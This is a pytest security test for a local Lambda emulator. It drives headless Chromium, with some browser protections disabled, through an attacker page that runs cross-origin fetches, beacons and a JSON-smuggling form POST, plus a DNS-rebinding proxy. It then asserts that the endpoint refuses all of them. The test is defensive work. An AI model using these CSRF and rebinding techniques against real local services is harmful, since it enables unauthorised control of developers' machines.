"""A web page in a real browser cannot drive the endpoint, not even one that takes any credentials.

One browser, headless, opens one page that tries everything, and a second one under a name that was rebound
to the endpoint after the page had been loaded.
"""

import http.server
import json
import logging
import os
import shutil
import signal
import socket
import subprocess
import threading
from collections.abc import Iterator
from typing import Any

import attrs
import pytest

from lambda_invoke.local import LocalLambda
from tests.local.conftest import handler
from tests.local.test_security import send
from tests.support.patience import PATIENCE, soon

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no chromium or google-chrome is on the PATH")

INVOKE = "/2015-03-31/functions/echo/invocations"

ATTACKS = """
const to = "http://127.0.0.1:%(port)d", local = "http://localhost:%(port)d", path = "%(path)s";
const report = {};
async function attempt(name, url, options) {
  try {
    const answer = await fetch(url, options);
    report[name] = answer.type + " " + answer.status;
  } catch (error) { report[name] = "failed"; }
}
function element(tag, url) {
  return new Promise(done => {
    const made = document.createElement(tag);
    made.onload = made.onerror = done;
    made.src = url;
    document.body.appendChild(made);
  });
}
function form(url, type) {
  return new Promise(done => {
    const frame = document.createElement("iframe");
    frame.name = "f" + Math.random();
    document.body.appendChild(frame);
    const made = document.createElement("form");
    made.method = "POST"; made.action = url; made.enctype = type; made.target = frame.name;
    made.innerHTML = '<input name=\\'{"a":"\\' value=\\'"}\\'>';
    document.body.appendChild(made);
    frame.onload = () => done();
    made.submit();
    setTimeout(done, 3000);
  });
}
async function run() {
  for (const [name, base] of [["ip", to], ["name", local]]) {
    await attempt(name + " no-cors", base + path, {method: "POST", mode: "no-cors", body: "{}"});
    await attempt(name + " cors", base + path, {method: "POST", body: "{}"});
    await attempt(name + " preflight", base + path,
      {method: "POST", body: "{}", headers: {"X-Amz-Invocation-Type": "Event"}});
    await attempt(name + " get", base + "/2015-03-31/functions/", {mode: "no-cors"});
    report[name + " beacon"] = navigator.sendBeacon(base + path, "{}");
    await element("img", base + path);
    await element("script", base + path);
    await form(base + path, "text/plain");
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(report)});
}
run();
"""

REBOUND = """
async function run() {
  const report = {};
  for (const [name, url, options] of [
    ["list", "/2015-03-31/functions/", {}],
    ["invoke", "%(path)s", {method: "POST", body: "{}"}],
    ["event", "%(path)s",
      {method: "POST", body: "{}", headers: {"X-Amz-Invocation-Type": "Event", "Authorization": "Bearer x"}}],
  ]) {
    const answer = await fetch(url, options);
    report[name] = answer.status + " " + (await answer.text()).slice(0, 200);
  }
  await fetch("http://127.0.0.1:%(site)d/rebound",
    {method: "POST", mode: "no-cors", body: JSON.stringify(report)});
}
run();
"""


@attrs.frozen
class Seen:
    """What one browser came to."""

    local: LocalLambda
    report: dict[str, Any]
    rebound: dict[str, str]
    refusals: list[str]


class Site(http.server.ThreadingHTTPServer):
    """The attacker's own site: it serves the page, and takes its reports."""

    daemon_threads = True

    def __init__(self, script: str) -> None:
        super().__init__(("127.0.0.1", 0), Page)
        self.script = script
        self.reports: dict[str, Any] = {}
        threading.Thread(target=self.serve_forever, daemon=True).start()


class Page(http.server.BaseHTTPRequestHandler):
    server: Site

    def do_GET(self) -> None:
        body = f"<!doctype html><body><script>{self.server.script}</script>".encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.server.reports[self.path] = json.loads(body)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        """Nothing."""


class Rebinding:
    """What a rebound name leads to: the attacker's page for the first connection, then the endpoint."""

    def __init__(self, page: int, endpoint: int) -> None:
        self._targets = [page]
        self._endpoint = endpoint
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = self._listener.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                caller, _ = self._listener.accept()
            except OSError:
                return
            threading.Thread(target=self._join, args=(caller,), daemon=True).start()

    def _join(self, caller: socket.socket) -> None:
        with caller:
            first = caller.recv(65_536)
            if not first:
                return
            target = self._targets.pop() if self._targets else self._endpoint
            with socket.create_connection(("127.0.0.1", target)) as callee:
                callee.sendall(first)
                back = threading.Thread(target=self._copy, args=(callee, caller), daemon=True)
                back.start()
                self._copy(caller, callee)
                back.join(PATIENCE)

    @staticmethod
    def _copy(source: socket.socket, sink: socket.socket) -> None:
        try:
            while data := source.recv(65_536):
                sink.sendall(data)
            sink.shutdown(socket.SHUT_WR)
        except OSError:
            pass

    def close(self) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()


class Refusals(logging.Handler):
    """What the endpoint says that it refused."""

    def __init__(self) -> None:
        super().__init__(logging.WARNING)
        self.said: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.said.append(record.getMessage())


@pytest.fixture(scope="module")
def seen(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Seen]:
    """Everything that the two pages tried."""
    assert CHROMIUM is not None
    refusals = Refusals()
    logger = logging.getLogger("lambda_invoke.local")
    logger.addHandler(refusals)
    with LocalLambda({"echo": handler("echo")}, allow_any_credentials=True) as local:
        port = int(local.endpoint_url.rpartition(":")[2])
        site = Site(ATTACKS % {"port": port, "path": INVOKE})
        inner = Site(REBOUND % {"path": INVOKE, "site": site.server_port})
        rebinding = Rebinding(inner.server_port, port)
        rebound = f"http://rebound.test:{port}/"
        site.script += f"setTimeout(() => window.open('{rebound}'), 0);"
        browser = subprocess.Popen(
            [
                CHROMIUM,
                "--headless=new",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-dev-shm-usage",
                "--disable-popup-blocking",
                "--disable-background-networking",
                "--no-first-run",
                "--no-proxy-server",
                # Defences of the browser's own, which not every browser has:
                (
                    "--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessRespectPreflightResults,"
                    "BlockInsecurePrivateNetworkRequests,HttpsUpgrades,HttpsFirstBalancedModeAutoEnable"
                ),
                f"--host-resolver-rules=MAP rebound.test:{port} 127.0.0.1:{rebinding.port}",
                f"--user-data-dir={tmp_path_factory.mktemp('profile')}",
                f"http://127.0.0.1:{site.server_port}/",
            ],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        try:
            soon(lambda: {"/report", "/rebound"} <= set(site.reports))
            yield Seen(local, site.reports["/report"], site.reports["/rebound"], refusals.said)
        finally:
            os.killpg(browser.pid, signal.SIGKILL)
            browser.wait()
            logger.removeHandler(refusals)
            rebinding.close()
            for each in (site, inner):
                each.shutdown()
                each.server_close()


def nothing_ran(seen: Seen) -> None:
    """Fetch in every mode, beacons, images, scripts and forms: not one execution, though all reached it."""
    stats = seen.local.stats("echo")
    assert (stats.started, stats.accepted_events, stats.cold_starts) == (0, 0, 0)
    by_pages = [said for said in seen.refusals if said.startswith("refused a web page's ")]
    assert sum(said.endswith("POST request") for said in by_pages) >= 8
    assert sum(said.endswith("GET request") for said in by_pages) >= 6
    assert any(said.endswith("OPTIONS request") for said in by_pages)


def nothing_was_read(seen: Seen) -> None:
    """What is answered is opaque to the page, or nothing at all."""
    for name in ("ip", "name"):
        assert seen.report[f"{name} no-cors"] == "opaque 0"
        assert seen.report[f"{name} get"] == "opaque 0"
        assert seen.report[f"{name} cors"] == "failed"
        assert seen.report[f"{name} preflight"] == "failed"


def nothing_came_of_rebinding(seen: Seen) -> None:
    """To the browser the endpoint is the page's own origin; the endpoint does not answer to that name."""
    assert set(seen.rebound) == {"list", "invoke", "event"}
    for answer in seen.rebound.values():
        assert answer.startswith("403 ")
        assert "echo" not in answer
    assert "refused a GET request to a foreign host name" in seen.refusals


def test_a_web_page_cannot_drive_the_endpoint(seen: Seen) -> None:
    """One test, for one browser. Without a browser's headers the request runs: they kept the pages out."""
    nothing_ran(seen)
    nothing_was_read(seen)
    nothing_came_of_rebinding(seen)
    port = int(seen.local.endpoint_url.rpartition(":")[2])
    assert send(port)[0] == 200
    assert seen.local.stats("echo").started == 1
